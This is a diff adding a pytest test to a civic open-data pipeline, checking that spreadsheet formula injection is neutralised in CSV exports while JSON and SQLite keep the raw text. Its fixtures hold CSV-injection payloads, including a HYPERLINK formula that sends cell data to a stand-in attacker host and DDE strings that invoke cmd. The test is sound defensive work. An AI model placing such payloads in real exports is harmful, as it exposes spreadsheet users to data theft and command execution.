@@ -6,7 +6,7 @@ import csv
 import json
 import sqlite3
 
-from pipeline import opendata
+from pipeline import opendata, records
 
 
 def test_the_four_tables_in_csv_json_and_sqlite(registro_edomex, tmp_path):
@@ -45,3 +45,46 @@ def test_the_four_tables_in_csv_json_and_sqlite(registro_edomex, tmp_path):
     ]
     campos = {f["name"] for r in diccionario["resources"] for f in r["schema"]["fields"]}
     assert "privado" not in " ".join(campos) and "correo" not in campos
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_the_csv(tree, tmp_path):
+    """OWASP's CSV injection: a cell starting with =, +, -, @, tab or carriage return gets a single quote in the
+    CSV (names in asistencia and votaciones, the objeto of an acuerdo); JSON and SQLite keep the text."""
+    formulas = {
+        "martinez": '=HYPERLINK("http://atacante.example/?"&A1,"ver")',
+        "vargas": "+cmd|' /C calc'!A0",
+        "cervantes": "-2+3+cmd|' /C calc'!A0",
+        "funes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    stl = (tree / "stl.yaml").read_text("utf-8")
+    nombres = {p.id: p.nombre for p in records.load(tree).stl.integrantes}
+    for id_, formula in formulas.items():
+        stl = stl.replace(f"nombre: {nombres[id_]}\n", f"nombre: {json.dumps(formula)}\n", 1)
+    (tree / "stl.yaml").write_text(stl, "utf-8")
+    sesion = tree / "sesiones/IV-2020.yaml"
+    objeto = "el eje “Cultura del Gobierno Abierto” por parte del Infoem"
+    sesion.write_text(sesion.read_text("utf-8").replace(objeto, "'\t=1+1'"), "utf-8")
+    registro = records.load(tree)
+    opendata.escribir(opendata.tablas(registro), tmp_path)
+
+    def filas(nombre: str) -> list[dict]:
+        with (tmp_path / f"{nombre}.csv").open(encoding="utf-8", newline="") as handle:
+            return list(csv.DictReader(handle))
+
+    asistentes = {f["integrante"]: f["nombre"] for f in filas("asistencia") if f["sesion"] == "IV-2020"}
+    votantes = {f["integrante"]: f["nombre"] for f in filas("votaciones") if f["sesion"] == "IV-2020"}
+    for id_, formula in formulas.items():
+        assert asistentes[id_] == "'" + formula
+        assert votantes.get(id_, "'" + formula) == "'" + formula
+    assert len(votantes) >= 3
+    assert "'\t=1+1" in {f["objeto"] for f in filas("acuerdos")}
+    for nombre in ("asistencia", "votaciones", "acuerdos", "sesiones"):
+        for fila in filas(nombre):
+            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in fila.values()), fila
+    asistencia = json.loads((tmp_path / "asistencia.json").read_text("utf-8"))
+    assert {a["nombre"] for a in asistencia if a["sesion"] == "IV-2020"} >= set(formulas.values())
+    with sqlite3.connect(tmp_path / "datos.sqlite") as db:
+        assert db.execute("SELECT objeto FROM acuerdos WHERE objeto LIKE '%=1+1'").fetchone() == ("\t=1+1",)
+    diccionario = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
+    assert "apóstrofo" in diccionario["description"]
+    assert all("apóstrofo" in r["description"] for r in diccionario["resources"])
